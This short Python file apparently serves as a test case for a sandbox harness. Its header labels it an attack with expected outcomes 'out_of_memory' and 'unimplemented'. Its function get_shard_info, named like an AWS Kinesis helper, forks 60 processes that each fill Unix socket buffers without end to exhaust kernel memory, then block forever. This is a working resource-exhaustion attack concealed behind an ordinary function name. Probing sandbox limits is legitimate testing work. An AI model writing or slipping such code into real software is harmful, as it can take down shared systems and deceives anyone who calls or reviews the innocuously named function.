# /// attack
# file = "kinesis_multi_shard.py"
# outcomes = ["out_of_memory", "unimplemented"]
# says = "sockets"
# ///
"""Fills the buffers of Unix sockets: the kernel's memory, which no limit of a process counts."""

import os
import select
import socket


def send_events_to_shards(stream_name, num_events=30):
    raise NotImplementedError


def fill(held):
    try:
        while True:
            for end in socket.socketpair():
                held.append(end)
                end.setblocking(False)
                try:
                    while True:
                        end.send(bytes(1 << 15))
                except BlockingIOError:
                    pass
    except OSError:
        pass


def get_shard_info(stream_name):
    held = []
    for _ in range(60):
        if os.fork() == 0:
            fill(held)
            select.poll().poll()
    select.poll().poll()
